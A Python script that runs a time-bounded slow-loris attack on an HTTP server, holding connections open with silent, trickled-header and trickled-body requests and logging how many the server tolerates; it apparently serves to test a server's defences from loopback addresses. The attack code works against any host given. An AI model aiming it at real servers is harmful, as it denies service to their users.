#!/usr/bin/env python3
"""slowloris.py HOST PORT SECONDS OUT GROUP...: a slow-loris attack on an HTTP
server, for SECONDS, bounded: each GROUP is SRC_IP:COUNT:KIND[:INTERVAL]:
COUNT connections from SRC_IP (a loopback address), each reopened when the
server ends it (0.2 s later), of KIND
  silent   connect and send nothing;
  headers  send a request line and then a header, one byte every INTERVAL s,
           never ending it;
  body     send a complete POST header with Content-Length 100000, then the
           body one byte every INTERVAL s.
Writes a JSON summary to OUT: per group the connections opened, those the
server ended (EOF, reset, refused), how long they had lasted, and the most
that were open for over 2 s at once ("held": a connection the server turns
away ends as soon as its loop gets to it)."""
import json
import select
import socket
import sys
import time

host, port, seconds, out = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
groups = []
for spec in sys.argv[5:]:
    parts = spec.split(":")
    groups.append({"src": parts[0], "count": int(parts[1]), "kind": parts[2],
                   "interval": float(parts[3]) if len(parts) > 3 else 0.0,
                   "opened": 0, "ended": 0, "lifetimes": [], "refused": 0, "max_held": 0})

conns = {}  # socket -> state
reopen = []  # (time, group): a connection the server ended is opened again, after 0.2 s


def open_one(g):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((g["src"], 0))
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        g["refused"] += 1
        s.close()
        return
    g["opened"] += 1
    if g["kind"] == "headers":
        first = b"GET /metrics HTTP/1.1\r\nHost: loris\r\nX-Loris: "
    elif g["kind"] == "body":
        first = (b"POST /metrics HTTP/1.1\r\nHost: loris\r\nContent-Length: 100000\r\n"
                 b"Content-Type: application/octet-stream\r\n\r\n")
    else:
        first = b""
    conns[s] = {"g": g, "t0": time.monotonic(), "first": first, "next": time.monotonic()}


def end(s, now):
    st = conns.pop(s)
    st["g"]["ended"] += 1
    st["g"]["lifetimes"].append(round(now - st["t0"], 2))
    s.close()


start = time.monotonic()
for g in groups:
    for _ in range(g["count"]):
        open_one(g)
while time.monotonic() - start < seconds:
    now = time.monotonic()
    for s, st in list(conns.items()):
        g = st["g"]
        if g["kind"] == "silent" or now < st["next"]:
            continue
        data = st["first"] or b"a"
        st["first"] = b""
        try:
            s.send(data)
        except BlockingIOError:
            pass
        except OSError:
            end(s, now)
            reopen.append((now + 0.2, g))
            continue
        st["next"] = now + g["interval"]
    # held: open for over 2 s (one the server turns away ends as soon as its
    # loop gets to it; under load that may take a while, never seconds)
    held = {}
    for st in conns.values():
        if now - st["t0"] > 2.0:
            held[id(st["g"])] = held.get(id(st["g"]), 0) + 1
    for g in groups:
        g["max_held"] = max(g["max_held"], held.get(id(g), 0))
    readable, _, _ = select.select(list(conns), [], [], 0.02) if conns else ([], [], time.sleep(0.02))
    now = time.monotonic()
    for s in readable:
        try:
            data = s.recv(65536)
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            data = b""
        if not data:  # the server ended it (an answer such as 408 comes first)
            g = conns[s]["g"]
            end(s, now)
            reopen.append((now + 0.2, g))
    for item in [r for r in reopen if r[0] <= now]:
        reopen.remove(item)
        open_one(item[1])
for s in list(conns):
    s.close()
for g in groups:
    lt = g["lifetimes"]
    g["max_lifetime"] = max(lt) if lt else None
    g["min_lifetime"] = min(lt) if lt else None
    del g["lifetimes"]
json.dump(groups, open(out, "w"), indent=1)
